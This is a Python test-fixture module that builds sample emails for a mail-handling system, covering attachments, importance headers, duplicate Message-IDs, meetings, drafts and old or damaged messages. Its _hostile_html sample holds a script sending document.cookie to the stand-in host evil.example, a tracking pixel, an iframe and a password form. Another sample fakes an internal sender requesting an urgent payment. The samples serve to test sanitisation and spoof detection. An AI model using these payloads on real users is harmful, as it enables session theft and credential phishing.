"""One sample for each thing that mail can be and that is easy to get wrong: what a well-meaning sender sends."""

from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import datetime, timedelta

from local.samples.people import ANNA, BRUNO, CHLOE, CORRESPONDENTS, DAVID, DOMAIN, EMIL, Correspondent, Person
from local.samples.sample import Placed, Sample, Shows, sent_attachment
from local.samples.writing import File, Letter, noise, pdf, picture, spreadsheet, write
from shared.domain.choices import Reason, Verdict

_NANCY, _PETER, _JUERGEN, _KAETHE, _ELODIE, *_ = CORRESPONDENTS

LARGE_BYTES = 20 * 1024 * 1024
START_DATE_AGO = timedelta(days=30)
"""The demo's start date: older mail is left alone."""

PHOTOGRAPHS = tuple(
    File(f"site {n}.png", "image/png", picture(64 * n, 48, (30 * n, 120, 60)), f"site{n}@northwind.example") for n in (1, 2, 3)
)
HOSTILE_SCRIPT = "document.location='https://evil.example/?'+document.cookie"


def particular(now: datetime, large_bytes: int = LARGE_BYTES) -> Iterator[Sample]:
    yield from _pictures(now)
    yield from _attachments(now, large_bytes)
    yield from _importance(now)
    yield from _several_mailboxes(now)
    yield from _message_ids(now)
    yield from _hostile_html(now)
    yield from _own_addresses(now)
    yield from _meetings(now)
    yield from _old(now)
    yield from _placed(now)
    yield from _unreadable(now)


def _letter(
    now: datetime,
    sender: Correspondent,
    to: Sequence[Person],
    subject: str,
    text: str,
    message_id: str | None,
    *,
    html: str | None = None,
    files: Sequence[File] = (),
    headers: Sequence[tuple[str, str]] = (),
) -> Letter:
    recipients = [(person.name, person.address) for person in to]
    return Letter(
        (sender.name, sender.address), recipients, subject, text, now, message_id, html=html, files=files, headers=headers
    )


def _as_sample(name: str, shows: Shows, letter: Letter, to: Sequence[Person]) -> Sample:
    return Sample(
        name=name,
        shows=shows,
        raw=write(letter),
        to=tuple(person.address for person in to),
        subject=letter.subject,
        message_id=letter.message_id,
        sender=letter.sender[1],
        contains=letter.text.strip().splitlines()[0],
        attachments=tuple(
            sent_attachment(file.name, file.content, is_inline=file.content_id is not None) for file in letter.files
        ),
    )


def _pictures(now: datetime) -> Iterator[Sample]:
    figures = "".join(f'<p><img src="cid:{file.content_id}"></p>' for file in PHOTOGRAPHS)
    letter = _letter(
        now,
        _NANCY,
        [ANNA],
        "Photographs of the site",
        "The three photographs of this morning.",
        "photographs-1@northwind.example",
        html=f"<p>The three photographs of this morning.</p>{figures}",
        files=PHOTOGRAPHS,
    )
    yield _as_sample("three inline pictures", Shows.INLINE_PICTURE, letter, [ANNA])


def _attachments(now: datetime, large_bytes: int) -> Iterator[Sample]:
    several = (
        File("Angebot für Prüfstände.pdf", "application/pdf", pdf("Angebot")),
        File("見積書.pdf", "application/pdf", pdf("Quotation")),
        File("prices.csv", "text/csv", spreadsheet([("item", "price"), ("A1", "1.25")])),
        File("empty.txt", "text/plain", b""),
        File("scan.bin", "application/octet-stream", noise(70_000, 1)),
    )
    letter = _letter(
        now, _JUERGEN, [BRUNO], "Unterlagen", "Anbei fünf Dateien.", "unterlagen-1@weissundsohn.example", files=several
    )
    yield _as_sample("attachments of several kinds", Shows.ATTACHMENT, letter, [BRUNO])

    large = (File("assembly film.mp4", "video/mp4", noise(large_bytes, 2)),)
    letter = _letter(
        now, _PETER, [CHLOE], "The film of the assembly", "Twenty megabytes.", "film-1@northwind.example", files=large
    )
    yield _as_sample("a 20 MB attachment", Shows.LARGE, letter, [CHLOE])


def _importance(now: datetime) -> Iterator[Sample]:
    letter = _letter(
        now,
        _KAETHE,
        [DAVID],
        "Dringend: Anlage steht",
        "Bitte sofort zurückrufen.",
        "dringend-1@weissundsohn.example",
        headers=[("Importance", "high"), ("X-Priority", "1")],
    )
    sample = _as_sample("high importance", Shows.IMPORTANCE, letter, [DAVID])
    yield replace(sample, important=True)


def _several_mailboxes(now: datetime) -> Iterator[Sample]:
    three = [ANNA, BRUNO, CHLOE]
    letter = _letter(now, _NANCY, three, "Invitation to the opening", "You are all invited.", "opening-1@northwind.example")
    yield _as_sample("one message to three mailboxes", Shows.SHARED, letter, three)
    letter = _letter(now, _PETER, [EMIL], "Newsletter, received twice", "Once by the list.", "twice-1@northwind.example")
    for copy in (1, 2):
        sample = _as_sample(f"the same message in one mailbox, copy {copy}", Shows.TWICE, letter, [EMIL])
        yield replace(sample, activity="the same message in one mailbox")


def _message_ids(now: datetime) -> Iterator[Sample]:
    scanner = Correspondent("Scanner 4th floor", "scanner@fabrikam.example", "en")
    for number in (1, 2, 3):
        text = f"Scan number {number} of today."
        letter = _letter(now, scanner, [EMIL], f"Scan {number}", text, "constant@scanner.fabrikam.example")
        yield _as_sample(f"constant Message-ID, content {number}", Shows.VARIANT, letter, [EMIL])
    for number in (1, 2):
        letter = _letter(now, scanner, [DAVID], f"Fax {number}", f"Fax number {number}, two pages.", None)
        yield _as_sample(f"no Message-ID, {number}", Shows.NO_MESSAGE_ID, letter, [DAVID])


def _hostile_html(now: datetime) -> Iterator[Sample]:
    html = (
        f'<html><body><p onclick="{HOSTILE_SCRIPT}">You have won.</p><script>{HOSTILE_SCRIPT}</script>'
        '<img src="https://evil.example/pixel.gif" width="1"><iframe src="https://evil.example/"></iframe>'
        '<a href="javascript:alert(1)">claim</a><form action="https://evil.example/"><input name="password"></form>'
        "</body></html>"
    )
    stranger = Correspondent("Prize Department", "winner@evil.example", "en")
    letter = _letter(now, stranger, [BRUNO], "You have won", "You have won.", "prize-1@evil.example", html=html)
    yield _as_sample("a script, a tracking pixel, a form", Shows.HOSTILE_HTML, letter, [BRUNO])


def _own_addresses(now: datetime) -> Iterator[Sample]:
    boss = Correspondent(ANNA.name, ANNA.address, "en")
    letter = _letter(now, boss, [DAVID], "Urgent transfer", "Please pay the invoice enclosed today.", "transfer-1@evil.example")
    sample = _as_sample("an own address claimed from outside", Shows.CLAIMED_ADDRESS, letter, [DAVID])
    yield replace(sample, reason=Reason.SENDER_CLAIMS_OWN_ADDRESS)

    for number, person in enumerate((BRUNO, CHLOE, EMIL), 1):
        letter = _letter(now, boss, [person], f"Lunch {number}?", "At noon in the canteen?", f"lunch-{number}@{DOMAIN}")
        sample = _as_sample(f"internal mail {number}", Shows.INTERNAL, letter, [person])
        yield replace(sample, internal=True, verdict=Verdict.SKIPPED, reason=Reason.INTERNAL_SENDER)


def _meetings(now: datetime) -> Iterator[Sample]:
    begins = (now + timedelta(days=3)).replace(minute=0, second=0, microsecond=0)
    for method in ("REQUEST", "CANCEL"):
        raw = _meeting(now, begins, method)
        yield Sample(
            name=f"meeting {method.lower()}",
            shows=Shows.MEETING,
            raw=raw,
            to=(CHLOE.address,),
            subject="Project review",
            message_id=f"meeting-{method.lower()}@northwind.example",
            sender=_NANCY.address,
            verdict=Verdict.SKIPPED,
            reason=Reason.MEETING_MESSAGE,
        )


def _meeting(now: datetime, begins: datetime, method: str) -> bytes:
    event = "\r\n".join(
        (
            "BEGIN:VCALENDAR",
            "PRODID:-//Northwind//Calendar//EN",
            "VERSION:2.0",
            f"METHOD:{method}",
            "BEGIN:VEVENT",
            "UID:project-review-1@northwind.example",
            f"DTSTAMP:{now:%Y%m%dT%H%M%SZ}",
            f"DTSTART:{begins:%Y%m%dT%H%M%SZ}",
            f"DTEND:{begins + timedelta(hours=1):%Y%m%dT%H%M%SZ}",
            f"ORGANIZER;CN={_NANCY.name}:mailto:{_NANCY.address}",
            f"ATTENDEE;RSVP=TRUE;CN=Chloe:mailto:{CHLOE.address}",
            "SUMMARY:Project review",
            "END:VEVENT",
            "END:VCALENDAR",
            "",
        )
    )
    head = (
        f"From: {_NANCY.name} <{_NANCY.address}>\r\nTo: <{CHLOE.address}>\r\nSubject: Project review\r\n"
        f"Date: {now:%a, %d %b %Y %H:%M:%S +0000}\r\nMessage-ID: <meeting-{method.lower()}@northwind.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=meeting\r\n\r\n"
    )
    return (
        f"{head}--meeting\r\nContent-Type: text/plain\r\n\r\nProject review\r\n"
        f"--meeting\r\nContent-Type: text/calendar; method={method}; charset=utf-8\r\n\r\n{event}--meeting--\r\n"
    ).encode()


def _old(now: datetime) -> Iterator[Sample]:
    for number, person in enumerate((ANNA, BRUNO, ANNA), 1):
        received = now - START_DATE_AGO - timedelta(days=number)
        letter = _letter(
            received, _ELODIE, [person], f"Ancienne commande {number}", "Archivée.", f"old-{number}@atelier-lefevre.example"
        )
        sample = _as_sample(f"older than the start date {number}", Shows.OLD, letter, [person])
        yield replace(sample, received=received, verdict=Verdict.SKIPPED, reason=Reason.BEFORE_START_DATE)


def _placed(now: datetime) -> Iterator[Sample]:
    david = Correspondent(DAVID.name, DAVID.address, "en")
    for placed, reason in ((Placed.DRAFT, Reason.DRAFT), (Placed.OWN_COPY, Reason.OWN_COPY)):
        message_id = f"{placed.value.replace(' ', '-')}-1@{DOMAIN}"
        letter = _letter(now, david, [BRUNO], f"A note, {placed.value}", "To be continued.", message_id)
        sample = _as_sample(f"{placed.value} in the inbox", Shows.PLACED, letter, [DAVID])
        yield replace(sample, placed=placed, verdict=Verdict.SKIPPED, reason=reason)


def _unreadable(now: datetime) -> Iterator[Sample]:
    letter = _letter(now, _ELODIE, [ANNA], "Un message abîmé", "Illisible.", "damaged-1@atelier-lefevre.example")
    sample = _as_sample("an item that is damaged on the server", Shows.UNREADABLE, letter, [ANNA])
    yield replace(sample, received=now, unreadable=True, verdict=Verdict.FAILING, reason=Reason.UNREADABLE)
